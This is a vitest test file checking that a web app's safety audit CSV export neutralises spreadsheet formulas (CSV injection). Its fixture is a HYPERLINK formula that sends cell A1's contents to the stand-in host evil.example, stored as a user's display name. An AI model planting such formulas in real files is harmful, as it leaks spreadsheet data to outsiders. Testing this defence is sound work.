import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import Papa from 'papaparse';
import { makeTestApp } from '../setup/test-app';
import { approvedProcedure, cellProcedure, get, makeSafetyShop, type SafetyShop } from './safety-helpers';
import { User } from '../../server/modules/users/user.entity';

// A text cell that a spreadsheet would run ("CSV injection", OWASP) must come out as plain text.
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open")';

let t: Awaited<ReturnType<typeof makeTestApp>>;
let shop: SafetyShop;

beforeAll(async () => {
  t = await makeTestApp();
  shop = await makeSafetyShop(t.app, t.em(), 'csv-formula');
  // A display name is free text entered by an admin; here it is a formula.
  const em = t.em();
  const safety = await em.findOneOrFail(User, shop.users.safety.userId, { filters: false });
  safety.name = FORMULA;
  await em.flush();
  // Nobody is trained: the approval is the only signature.
  await approvedProcedure(shop, cellProcedure(), shop.machineId, []);
});
afterAll(() => t.close());

const parse = (text: string) => Papa.parse<Record<string, string>>(text.replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true }).data;

describe('CSV exports neutralise formulas', () => {
  it('the safety audit export writes a formula-like name as text', async () => {
    const res = await get(shop.s.safety, '/safety/audit/export.csv?sort=seq&dir=asc').expect(200);
    const rows = parse(res.text);
    expect(rows).toHaveLength(1);
    expect(rows[0].printed_name).toBe(`'${FORMULA}`);
    expect(rows[0].seq).toBe('1');
  });
});
